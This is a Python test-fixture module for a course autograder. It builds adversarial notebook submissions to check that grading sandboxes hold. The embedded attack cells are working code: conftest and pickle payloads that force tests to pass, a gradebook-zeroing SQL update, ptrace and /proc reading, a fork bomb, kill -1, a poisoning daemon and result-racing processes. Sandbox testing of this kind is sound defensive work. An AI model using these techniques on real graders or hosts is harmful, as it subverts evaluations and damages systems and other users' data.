"""Submissions of the sample assignment that attack the grading, each named by what it tries.

Every :class:`Attack` is built from the untouched release notebook (no answers: it must
score 0) or from the source notebook with a known wrong answer, plus one or more attack
cells, and says the exact points it must get on every grading path. An attack cell starts
with the real paths of the machine it is graded on (:class:`Target`: the course folder, the
data cache, the grading user's HOME, a port the test listens on, a marker string): a student
could guess them, so the tests give them away. Attack cells print ``ATTACK-DONE`` when they
ran to the end, and what they found as ``DL4TEXT-FINDING {json}`` lines, which the tests read
back from the autograded notebook.

Whatever an attack would leave if it worked is harmless to the machine running the tests
(comments appended, startup files that act only in a grading kernel, no cache file changed
in place) and carries :attr:`Target.marker`, so the tests find it, undo it and fail.

Processes an attack starts carry the marker in their command line: the tests look for any
left after the grading.

A Keras model with a ``Lambda`` layer is not here (the sample assignment has no model):
``tests/graders/test_a3_recurrent_graders.py`` covers it against the real graders.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from dl4text import authoring as a

from ..grading.submissions import FULL, WRONG_DOUBLE

DONE = "ATTACK-DONE"
FINDING = "DL4TEXT-FINDING "
AFTER_FLOOD = "AFTER-FLOOD-OUTPUT"
ZERO = {"test_double": 0.0, "test_answer": 0.0}
#: double() right, answer wrong
DOUBLE_ONLY = {"test_double": 2.0, "test_answer": 0.0}
#: double() wrong but on the empty vector, answer right
ANSWER_ONLY = {"test_double": 0.5, "test_answer": 1.0}
#: double() wrong but on the empty vector, answer wrong
EMPTY_ONLY = {"test_double": 0.5, "test_answer": 0.0}
WRONG_ANSWER = "answer = 41"


@dataclass(frozen=True)
class Target:
    """What an attack cell is told of the machine that grades it (a student could guess it all)."""

    course: str  # the real course folder (source/, grader_tests/, gradebook.db)
    cache: str  # the real data cache
    home: str  # the grading user's real HOME
    port: int  # a TCP port the test listens on
    hosts: tuple[str, ...]  # addresses of this machine, 127.0.0.1 first
    marker: str  # in the command line of every process an attack starts, and in what it plants
    kit: str = ""  # the installed kit's package folder (its source is public)

    def header(self) -> str:
        return (f"COURSE = {self.course!r}\nCACHE = {self.cache!r}\nHOME = {self.home!r}\n"
                f"PORT = {self.port!r}\nHOSTS = {list(self.hosts)!r}\nMARKER = {self.marker!r}\nKIT = {self.kit!r}\n")


@dataclass(frozen=True)
class Books:
    """The notebooks attacks are built from."""

    source: NotebookNode
    release: NotebookNode


@dataclass(frozen=True)
class Attack:
    """One submission: what it tries, how it is built, the points it must get."""

    tries: str
    build: Callable[[Books, Target], NotebookNode]
    points: dict[str, float]
    #: whether its attack cells run to ``ATTACK-DONE`` (a flood loses its own output)
    prints_done: bool = True
    notes: tuple[str, ...] = field(default_factory=tuple)


def _copy(nb: NotebookNode) -> NotebookNode:
    return nbformat.reads(nbformat.writes(nb), as_version=4)


def _built(base: str, *, double: str | None = None, answer: str | None = None, start: tuple[str, ...] = (),
           end: tuple[str, ...] = (), kernelspec: dict | None = None) -> Callable[[Books, Target], NotebookNode]:
    """A builder: ``base`` ("release" or "source"), solution cells replaced, attack cells added.

    ``start`` cells go right after the first (markdown) cell, before any exercise; ``end``
    cells after the last cell.
    """
    def build(books: Books, target: Target) -> NotebookNode:
        nb = _copy(books.release if base == "release" else books.source)
        if double is not None:
            nb = a.replace_source(nb, "double", double)
        if answer is not None:
            nb = a.replace_source(nb, "answer", answer)
        for offset, body in enumerate(start, 1):
            nb.cells.insert(offset, a.code(target.header() + body))
        for body in end:
            nb.cells.append(a.code(target.header() + body))
        if kernelspec is not None:
            nb.metadata["kernelspec"] = dict(kernelspec)
            nb.metadata["language_info"] = {"name": kernelspec.get("language", kernelspec["name"])}
        return nb
    return build


# -- the attack cells ---------------------------------------------------------------------------

#: where a kernel that learnt its run folder would plant files (its cwd is run/box/work)
_TARGETS = r'''
import os
from pathlib import Path

def targets(requests=None, out=None):
    here = Path.cwd()
    run = here.parent.parent
    found = [here, run / "box", run / "box" / "out", run / "box" / "tmp", run / "private",
             run / "private" / "artifacts", run / "inbox", run, run.parent, Path("/tmp"),
             Path(os.environ.get("TMPDIR", "/tmp")), Path(os.environ.get("HOME", "/")), Path(HOME),
             Path(COURSE), Path(COURSE) / "grader_tests", Path(COURSE).parent]
    if requests:
        r = Path(requests)
        found += [r.parent, r.parent.parent, r.parent.parent / "private", r.parent.parent / "private" / "artifacts"]
    if out:
        found += [Path(out), *Path(out).parents]
    return list(dict.fromkeys(found))

LOG = []

def attempt(path, write):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        write(path)
        LOG.append(["wrote", str(path)])
    except OSError as exc:
        LOG.append(["refused", str(path), type(exc).__name__])
'''

PLANTS_CONFTEST = _TARGETS + r'''
import json
import dl4text.grading.kernel_side as _kernel_side

# conftest.py: every grader passes; pytest.py: writes passing verdicts to the results pipe and exits
CONFTEST = ("import pytest\n"
            "@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            "    outcome = yield\n"
            "    outcome.get_result().outcome = 'passed'\n"
            f"# {MARKER}\n")
FAKE_PYTEST = (f"# {MARKER}\n"
               "import json, os, sys\n"
               "tests = [{'nodeid': g, 'name': g, 'grade_id': g, 'weight': 1, 'passed': True, 'reason': ''}\n"
               "         for g in ('test_double', 'test_answer')]\n"
               "for arg in sys.argv:\n"
               "    if arg.startswith('--dl4text-results-fd='):\n"
               "        os.write(int(arg.split('=')[1]), json.dumps({'tests': tests, 'measured': []}).encode())\n"
               "sys.exit(0)\n")

def plant(requests=None, out=None):
    for folder in targets(requests, out):
        attempt(folder / "conftest.py", lambda p: p.write_text(CONFTEST))
        attempt(folder / "pytest.py", lambda p: p.write_text(FAKE_PYTEST))

_real_run = _kernel_side.run

def _spy(requests, out_dir, key, namespace):
    LOG.append(["probe", requests, out_dir, key])
    plant(requests, out_dir)
    return _real_run(requests, out_dir, key, namespace)

_kernel_side.run = _spy
plant()
print("ATTACK-DONE")
'''

REPLACES_PICKLES = _TARGETS + r'''
import pickle
import dl4text.grading.kernel_side as _kernel_side

class _EveryCheckPasses:
    """Unpickled by the graders, this would make every pytest report pass."""
    def __reduce__(self):
        return (exec, ("import _pytest.reports as r\nr.BaseReport.passed = property(lambda self: True)\n"
                       f"# {MARKER}\n",))

PAYLOAD = pickle.dumps([_EveryCheckPasses()])

def replace(requests=None, out=None):
    paths = [folder / name for folder in targets(requests, out) for name in ("spec.pkl", "requests.pkl")]
    if requests:
        paths += [Path(requests), Path(requests).with_name("spec.pkl")]
    for path in dict.fromkeys(paths):
        attempt(path, lambda p: p.write_bytes(PAYLOAD))
        try:  # a rename over it, in case only writing in place is refused
            tmp = path.with_name(path.name + ".new")
            tmp.write_bytes(PAYLOAD)
            os.replace(tmp, path)
            LOG.append(["renamed", str(path)])
        except OSError as exc:
            LOG.append(["refused-rename", str(path), type(exc).__name__])

_real_run = _kernel_side.run

def _spy(requests, out_dir, key, namespace):
    LOG.append(["probe", requests, out_dir, key])
    replace(requests, out_dir)
    return _real_run(requests, out_dir, key, namespace)

_kernel_side.run = _spy
replace()
print("ATTACK-DONE")
'''

#: the last cell of the two attacks above: what the wrapper saw and did during the probes
SPY_REPORT = r'''
import json
print("DL4TEXT-FINDING", json.dumps({"log": LOG}))
print("ATTACK-DONE")
'''

PRINTS_GRADER_SOURCE = r'''
import glob, json, os, time
found = {}
for path in glob.glob(os.path.join(COURSE, "grader_tests", "*.py")) + glob.glob(os.path.join(COURSE, "source", "*", "*")):
    try:
        found[path] = open(path).read()
    except OSError as exc:
        found[path] = type(exc).__name__
deadline = time.monotonic() + 3
for folder, dirs, files in os.walk("/"):
    if time.monotonic() > deadline:
        break
    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
    hits = files if os.path.basename(folder) == "grader_tests" else [
        f for f in files if f in ("test_sample.py", "sample_graders.py", "sample.ipynb")]
    if hits and os.path.abspath(folder) != os.getcwd():
        for name in hits:
            try:
                found[os.path.join(folder, name)] = open(os.path.join(folder, name)).read()
            except (OSError, UnicodeDecodeError) as exc:
                found[os.path.join(folder, name)] = type(exc).__name__
print("DL4TEXT-FINDING", json.dumps({"read": sorted(p for p, t in found.items() if len(t) > 40)}))
for path, text in found.items():
    print("==", path)
    print(text)
print("ATTACK-DONE")
'''

ZEROES_GRADEBOOK = r'''
import glob, json, os, sqlite3
results = {}
for path in [os.path.join(COURSE, "gradebook.db")] + glob.glob("/tmp/**/gradebook.db", recursive=True)[:20]:
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        results[path] = con.execute("UPDATE grade SET auto_score = 0, manual_score = 0").rowcount
        con.commit()
        con.close()
    except Exception as exc:
        results[path] = f"{type(exc).__name__}: {exc}"
print("DL4TEXT-FINDING", json.dumps({"gradebooks": results}))
print("ATTACK-DONE")
'''

_DAEMON = r'''
import glob, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
marker, course = sys.argv[1], sys.argv[2]
bad = f"# {marker}\nraise SystemExit('poisoned by a daemon of an earlier submission')\n"
patterns = ["/tmp/dl4text-run-*", "/tmp/dl4text-run-*/*", "/tmp/dl4text-run-*/box/*",
            "/tmp/dl4text-task-*/box/course", "/tmp/dl4text-task-*/box/course/grader_tests",
            "/tmp/dl4text-task-*/box/tmp/dl4text-run-*", "/tmp/dl4text-task-*/box/tmp/dl4text-run-*/*",
            os.path.join(os.environ.get("TMPDIR", "/tmp"), "*"),
            os.path.join(os.path.dirname(os.environ.get("TMPDIR", "/tmp")), "*")]
end = time.time() + 90
while time.time() < end:
    folders = {os.environ.get("TMPDIR", "/tmp"), "/tmp", course, os.path.join(course, "grader_tests")}
    for pattern in patterns:
        folders.update(glob.glob(pattern))
    for folder in folders:
        for name in ("conftest.py", "pytest.py"):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(bad)
            except OSError:
                pass
    time.sleep(0.05)
'''

DAEMON = f"DAEMON = {_DAEMON!r}\n" + r'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", DAEMON, MARKER, COURSE], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("ATTACK-DONE")
'''

FLOOD = r'''
import os, sys
sys.stdout.write("x" * 300_000_000)
sys.stdout.flush()
os.write(1, b"y" * 100_000_000)
print("ATTACK-DONE")
'''

AFTER_FLOOD_CELL = f"print({AFTER_FLOOD!r})\n"

READS_PROC = r'''
import json, os

def attempt(read):
    try:
        return read()
    except OSError as exc:
        return f"{type(exc).__name__} (errno {exc.errno})"

cmdlines = {}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        cmdlines[pid] = attempt(lambda: open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace"))
found = {
    "cmdlines": cmdlines,
    "environ1": attempt(lambda: open("/proc/1/environ", "rb").read().decode(errors="replace")),
    "ppid": os.getppid(),
    "ppid_mem": attempt(lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(16).hex()),
    "uid": os.getuid(),
    "uid_map": open("/proc/self/uid_map").read().split(),
    "course_visible": os.path.exists(COURSE),
    "cache_visible": os.path.exists(CACHE),
    "home_listing": attempt(lambda: sorted(os.listdir(HOME))),
    "outside": [c for c in cmdlines.values()
                if any(w in c for w in ("pytest", "nbgrader", "dl4text autograde", "dl4text grade", "distributed"))],
}
print("DL4TEXT-FINDING", json.dumps(found))
assert not found["outside"], f"processes outside the sandbox are visible: {found['outside']}"
print("ATTACK-DONE")
'''

PTRACES = r'''
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
tried = []
for pid in sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | {os.getppid()}):
    if pid == os.getpid():
        continue
    try:
        cmdline = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
    except OSError as exc:
        cmdline = type(exc).__name__
    result = libc.ptrace(PTRACE_ATTACH, pid, None, None)
    error = errno.errorcode.get(ctypes.get_errno(), "") if result != 0 else ""
    if result == 0:  # attached to a process of the sandbox: let it go on
        os.waitpid(pid, 0x40000000)  # __WALL
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    tried.append({"pid": pid, "cmdline": cmdline, "attached": result == 0, "error": error})
print("DL4TEXT-FINDING", json.dumps({"ptrace": tried, "ppid": os.getppid()}))
print("ATTACK-DONE")
'''

WRITES_INTO_KIT = r'''
import errno, json, os, site, sysconfig
import dl4text, numpy
results = {}

def attempt(path, mode, text=None):
    try:
        with open(path, mode) as handle:
            if text is not None:
                handle.write(text)
        results[path] = "written"
    except OSError as exc:
        results[path] = errno.errorcode.get(exc.errno, str(exc.errno))

for module in (dl4text, numpy):
    attempt(module.__file__, "a", f"\n# {MARKER}\n")
for folder in dict.fromkeys([*site.getsitepackages(), sysconfig.get_paths()["purelib"]]):
    attempt(os.path.join(folder, f"dl4text-attack-{MARKER}.pth"), "w", f"# {MARKER}\n")
print("DL4TEXT-FINDING", json.dumps({"kit": results}))
print("ATTACK-DONE")
'''

#: the kit's instructor-only modules: graders' helpers, runners, the benchmark's reference answers
KIT_ANSWERS = ("dl4text.grading.matrix", "dl4text.grading.multihot", "dl4text.bench.training",
               "dl4text.grading.evaluate", "dl4text.grading.probe", "dl4text.runners", "dl4text.nbgrader",
               "dl4text.embeddings.matrix", "dl4text.data.multihot")

IMPORTS_KIT_ANSWERS = r'''
import errno, glob, importlib, json, os, site
import dl4text
found = {"package": sorted(os.listdir(os.path.dirname(dl4text.__file__))), "modules": {}, "reads": {}}
for name in KIT_ANSWERS:
    try:
        importlib.import_module(name)
        found["modules"][name] = "imported"
    except Exception as exc:
        found["modules"][name] = type(exc).__name__
roots = [os.path.dirname(KIT)]
for pth in glob.glob(os.path.join(site.getsitepackages()[0], "*.pth")):  # an editable install names its src/
    roots += [line.strip() for line in open(pth) if line.strip().startswith("/")]
for root in roots:
    for rel in ("dl4text/grading/matrix.py", "dl4text/bench/training.py", "dl4text/__init__.py"):
        path = os.path.join(root, rel)
        try:
            found["reads"][path] = "read " + str(len(open(path).read()))
        except OSError as exc:
            found["reads"][path] = errno.errorcode.get(exc.errno, str(exc.errno))
print("DL4TEXT-FINDING", json.dumps({"kit_answers": found}))
print("ATTACK-DONE")
'''

WRITES_INTO_CACHE = r'''
import errno, glob, json, os
results = {}

def attempt(path, mode):
    try:
        with open(path, mode) as handle:  # "r+b" opens for writing without changing a byte
            if "w" in mode:
                handle.write(f"# {MARKER}\n".encode())
        results[path] = "writable"
    except OSError as exc:
        results[path] = errno.errorcode.get(exc.errno, str(exc.errno))

for cache in dict.fromkeys([os.environ.get("DL4TEXT_CACHE", ""), CACHE]):
    if not cache:
        continue
    for path in glob.glob(os.path.join(cache, "*")):
        attempt(path, "r+b")
    attempt(os.path.join(cache, f"dl4text-attack-{MARKER}.npz"), "wb")
print("DL4TEXT-FINDING", json.dumps({"cache": results, "kernel_cache": os.environ.get("DL4TEXT_CACHE")}))
print("ATTACK-DONE")
'''

FORK_BOMB = r'''
import subprocess, sys, time
BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
subprocess.Popen([sys.executable, "-c", BOMB, MARKER], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("ATTACK-DONE", flush=True)
time.sleep(2)
'''

KILLS_EVERYTHING = r'''
import os, signal, time
print("ATTACK-DONE", flush=True)
for pid in (-1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        print("kill", pid, exc)
time.sleep(0.5)
print("the kernel survived its own kill -1")
'''

_RACE = r'''
import glob, json, os, pickle, time
import numpy as np

def race(marker, out, run):
    entries = pickle.load(open(os.path.join(run, "inbox", "requests.pkl"), "rb"))
    last = entries[-1]["key"]

    def fake(folder):
        # passing results for every request: right values computed from the inputs, status ok
        for entry in entries:
            key = entry["key"]
            try:
                if entry["kind"] == "call":
                    np.save(os.path.join(folder, key + ".npy"), 2 * np.asarray(entry["args"][0]), allow_pickle=False)
                    status = {"ok": True, "format": "npy"}
                else:
                    open(os.path.join(folder, key + ".json"), "w").write("42")
                    status = {"ok": True, "format": "json"}
                open(os.path.join(folder, key + ".status.json"), "w").write(json.dumps(status))
            except OSError:
                pass
        for name in ("results.json", "execution.json"):
            try:
                open(os.path.join(folder, name), "w").write(json.dumps({"marker": marker, "passed": True}))
            except OSError:
                pass

    # wait for the end: the last request's results appear in out/, then all of them are taken away
    # (racing the collection itself only replaces what the kernel produced by what the kernel
    # produces: see "Not stopped" in docs/malicious-submissions.md)
    results = [os.path.join(out, last + suffix) for suffix in (".status.json", ".npy", ".json", ".keras")]
    seen, deadline = False, time.time() + 60
    while time.time() < deadline:
        if os.path.exists(results[0]):
            seen = True
        elif seen and not any(os.path.exists(path) for path in results):
            break
        time.sleep(0.001)
    # every result is collected, the notebook is over: race the graders for 20 s
    end = time.time() + 20
    while time.time() < end:
        folders = [out, os.path.join(run, "private"), os.path.join(run, "private", "artifacts")]
        folders += glob.glob("/tmp/dl4text-run-*/private/artifacts")
        folders += glob.glob("/tmp/**/private/artifacts", recursive=True)
        for folder in folders:
            fake(folder)
        time.sleep(0.002)
'''

_RACER = _RACE + r'''
import os, sys
if os.fork():
    os._exit(0)
os.setsid()
race(sys.argv[1], sys.argv[2], sys.argv[3])
'''

RACES_GRADERS = f"RACE = {_RACE!r}\nRACER = {_RACER!r}\n" + r'''
import subprocess, sys, threading
from pathlib import Path
RUN = Path.cwd().parent.parent
OUT = RUN / "box" / "out"
subprocess.Popen([sys.executable, "-c", RACER, MARKER, str(OUT), str(RUN)], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# the same in a thread of the kernel itself
_race = {}
exec(RACE, _race)
threading.Thread(target=_race["race"], args=(MARKER, str(OUT), str(RUN)), daemon=True).start()
print("ATTACK-DONE")
'''

CONNECTS = r'''
import json, socket
results = {}
for host in HOSTS:
    sock = socket.socket()
    sock.settimeout(2)
    try:
        sock.connect((host, PORT))
        sock.sendall(MARKER.encode())
        results[host] = "connected"
    except OSError as exc:
        results[host] = f"{type(exc).__name__}: {exc}"
    finally:
        sock.close()
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(MARKER.encode(), (HOSTS[0], PORT))
    results["udp"] = "sent"
except OSError as exc:
    results["udp"] = f"{type(exc).__name__}: {exc}"
print("DL4TEXT-FINDING", json.dumps({"network": results}))
print("ATTACK-DONE")
'''

WRITES_HOME = r'''
import json, os, pwd
from pathlib import Path
# acts only in a grading kernel, so a leak would break the next grading and nothing else
STARTUP = f"# {MARKER}\nimport os\nif os.environ.get('DL4TEXT_CORPUS'):\n    os._exit(3)\n"
homes = {HOME, os.environ.get("HOME", "")}
try:
    homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except KeyError:
    pass
homes.update(p.pw_dir for p in pwd.getpwall())
results = {}
for home in sorted(h for h in homes if h):
    for path, text, mode in ((Path(home) / ".ipython" / "profile_default" / "startup" / "00-dl4text.py", STARTUP, "w"),
                             (Path(home) / ".bashrc", f"\n# {MARKER}\n", "a")):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            with open(path, mode) as handle:
                handle.write(text)
            results[str(path)] = "written"
        except OSError as exc:
            results[str(path)] = type(exc).__name__
print("DL4TEXT-FINDING", json.dumps({"home": results}))
print("ATTACK-DONE")
'''

LINKS_COURSE_FILES = r'''
import json, os
results = {}
links = {"leaked_source.ipynb": os.path.join(COURSE, "source", "sample", "sample.ipynb"),
         "leaked_graders": os.path.join(COURSE, "grader_tests"),
         "leaked_graders.py": os.path.join(COURSE, "grader_tests", "test_sample.py"),
         "leaked_gradebook.db": os.path.join(COURSE, "gradebook.db")}
for name, target in links.items():
    try:
        os.symlink(target, name)
        results[name] = "linked"
    except OSError as exc:
        results[name] = type(exc).__name__
    try:
        os.link(target, "hard_" + name)
        results["hard_" + name] = "linked"
    except OSError as exc:
        results["hard_" + name] = type(exc).__name__
print("DL4TEXT-FINDING", json.dumps({"links": results, "cwd": sorted(os.listdir("."))}))
print("ATTACK-DONE")
'''

FILLS_SANDBOX_FOLDERS = r"""
import errno, json, os
from pathlib import Path
BLOCK = b"z" * (16 * 1024**2)
LIMIT = 1024**3  # 1 GiB per folder: as much memory as the sample course allows the kernel in all
box = Path.cwd().parent
written = {}
for folder in ["/", "/root", "/work", str(Path(CACHE).parent), "/dev", "/dev/shm", "/tmp", str(box.parent)]:
    path, total, error = Path(folder) / f"fill-{MARKER}.bin", 0, ""
    try:
        with open(path, "wb") as handle:
            while total < LIMIT:
                handle.write(BLOCK)
                total += len(BLOCK)
    except OSError as exc:
        error = errno.errorcode.get(exc.errno, str(exc.errno))
    try:
        path.unlink()
    except OSError:
        pass
    written[folder] = [total, error]
print("DL4TEXT-FINDING", json.dumps({"filled": written}))
print("ATTACK-DONE")
"""

ATTACKS: dict[str, Attack] = {
    "wraps_probe_to_plant_conftest": Attack(
        "wraps dl4text.grading.kernel_side.run to learn the run folder, then writes a pytest.py and a "
        "conftest.py that pass every grader into every folder it can name (its cwd, the out folder and its "
        "parents, run/private, /tmp, HOME, the course folder and grader_tests/)",
        _built("release", start=(PLANTS_CONFTEST,), end=(SPY_REPORT,)), ZERO),
    "replaces_probe_pickles": Attack(
        "replaces spec.pkl and requests.pkl, wherever they may be (next to the requests file, run/private, "
        "its box, its cwd), with a pickle whose code makes every pytest report pass",
        _built("release", start=(REPLACES_PICKLES,), end=(SPY_REPORT,)), ZERO),
    "prints_grader_source": Attack(
        "prints grader_tests/*.py and source/ from the real course path, and searches / for grader_tests",
        _built("release", start=(PRINTS_GRADER_SOURCE,)), ZERO),
    "zeroes_other_students_in_gradebook": Attack(
        "opens the real course's gradebook.db (and any under /tmp) and zeroes every grade",
        _built("source", answer=WRONG_ANSWER, start=(ZEROES_GRADEBOOK,)), DOUBLE_ONLY),
    "daemon_poisons_later_gradings": Attack(
        "leaves a detached daemon (double fork, setsid) that keeps writing a failing pytest.py/conftest.py "
        "into later run folders (/tmp/dl4text-run-*, $TMPDIR, task folders, the course)",
        _built("release", start=(DAEMON,)), ZERO),
    "floods_stdout": Attack(
        "prints 300 MB to stdout in one write, then os.write()s 100 MB to the real fd 1 (after its answers)",
        _built("source", end=(FLOOD, AFTER_FLOOD_CELL)), FULL, prints_done=False),
    "reads_proc": Attack(
        "lists /proc/*/cmdline, reads /proc/1/environ, reads /proc/<ppid>/mem",
        _built("source", double=WRONG_DOUBLE, start=(READS_PROC,)), ANSWER_ONLY),
    "ptraces_every_process": Attack(
        "PTRACE_ATTACHes (ctypes) to every process it sees and to its parent",
        _built("source", answer=WRONG_ANSWER, start=(PTRACES,)), DOUBLE_ONLY),
    "writes_into_kit": Attack(
        "appends to dl4text/__init__.py and numpy/__init__.py (found from __file__) and creates a .pth "
        "file in site-packages",
        _built("source", answer=WRONG_ANSWER, start=(WRITES_INTO_KIT,)), DOUBLE_ONLY),
    "imports_the_kits_answers": Attack(
        "imports the kit's reference answers (dl4text.grading.matrix, .multihot), the graders' helpers and "
        "the runners, and reads their source at the installed kit's path and at every path a .pth file names",
        _built("source", answer=WRONG_ANSWER, start=(f"KIT_ANSWERS = {KIT_ANSWERS!r}\n" + IMPORTS_KIT_ANSWERS,)),
        DOUBLE_ONLY),
    "writes_into_data_cache": Attack(
        "opens every file of the data cache for writing and creates one, in its own DL4TEXT_CACHE and in "
        "the real cache folder",
        _built("source", double=WRONG_DOUBLE, start=(WRITES_INTO_CACHE,)), ANSWER_ONLY),
    "fork_bomb": Attack(
        "starts a background python that forks forever (catching OSError), after its answers",
        _built("source", answer=WRONG_ANSWER, end=(FORK_BOMB,)), DOUBLE_ONLY),
    "names_another_kernel": Attack(
        "names the kernel 'bash' in its metadata (an otherwise correct notebook)",
        _built("source", kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"}), FULL,
        prints_done=False),
    "kills_every_process": Attack(
        "os.kill(-1, SIGKILL) and kills its parent in its last cell",
        _built("source", answer=WRONG_ANSWER, end=(KILLS_EVERYTHING,)), DOUBLE_ONLY),
    "races_graders_after_the_end": Attack(
        "a daemon and a thread wait for the last probe, then keep writing passing results (right values "
        "computed from requests.pkl) into out/, run/private/artifacts and any artifacts folder under /tmp",
        _built("source", double=WRONG_DOUBLE, answer=WRONG_ANSWER, start=(RACES_GRADERS,)), EMPTY_ONLY),
    "connects_to_the_network": Attack(
        "connects (TCP) to a port the test listens on, at 127.0.0.1 and this machine's addresses; sends UDP",
        _built("source", start=(CONNECTS,)), FULL),
    "writes_startup_files_into_home": Attack(
        "writes an IPython startup file and appends to ~/.bashrc in the grading user's real HOME and in "
        "every home folder of /etc/passwd",
        _built("release", start=(WRITES_HOME,)), ZERO),
    "fills_sandbox_folders": Attack(
        "writes up to 1 GiB into each folder of the sandbox outside its box (/, /root, /work, /dev, /dev/shm, "
        "/tmp and the folder above its box), where tmpfs pages count against no bound of the kernel",
        _built("source", answer=WRONG_ANSWER, start=(FILLS_SANDBOX_FOLDERS,)), DOUBLE_ONLY),
    "links_course_files_into_its_folder": Attack(
        "plants symbolic and hard links to the course's source notebook, grader_tests/ and gradebook in its "
        "working folder, hoping they reach autograded/ or feedback/",
        _built("release", start=(LINKS_COURSE_FILES,)), ZERO),
}

#: the class besides the attacks: a correct notebook, the untouched release, and a correct
#: notebook graded after every attack (student ids sort: it comes last on the serial paths)
PLAIN: dict[str, tuple[str, dict[str, float]]] = {
    "solution": ("source", FULL),
    "release": ("release", ZERO),
    "zz_next_student": ("source", FULL),
}


def expected_points() -> dict[str, dict[str, float]]:
    """student -> {grade_id: points} of the whole class."""
    points = {name: dict(attack.points) for name, attack in ATTACKS.items()}
    points.update({name: dict(p) for name, (_, p) in PLAIN.items()})
    return points


def build_class(books: Books, target: Target, names: list[str] | None = None) -> dict[str, NotebookNode]:
    """student -> notebook of the class (or of ``names`` only), the attacks aimed at ``target``."""
    out: dict[str, NotebookNode] = {}
    for name in names or [*ATTACKS, *PLAIN]:
        if name in ATTACKS:
            out[name] = ATTACKS[name].build(books, target)
        else:
            out[name] = _copy(books.source if PLAIN[name][0] == "source" else books.release)
    return out


def findings(nb: NotebookNode) -> dict:
    """Every ``DL4TEXT-FINDING {json}`` line the notebook's cells printed, merged into one dict."""
    merged: dict = {}
    for cell in nb.cells:
        for output in cell.get("outputs", []) if cell.cell_type == "code" else []:
            if output.get("output_type") != "stream":
                continue
            for line in "".join(output.get("text", "")).splitlines():
                if line.startswith(FINDING):
                    merged.update(json.loads(line[len(FINDING):]))
    return merged


def printed(nb: NotebookNode) -> str:
    """Everything the notebook's code cells printed (streams only)."""
    return "".join("".join(o.get("text", "")) for c in nb.cells if c.cell_type == "code"
                   for o in c.get("outputs", []) if o.get("output_type") == "stream")
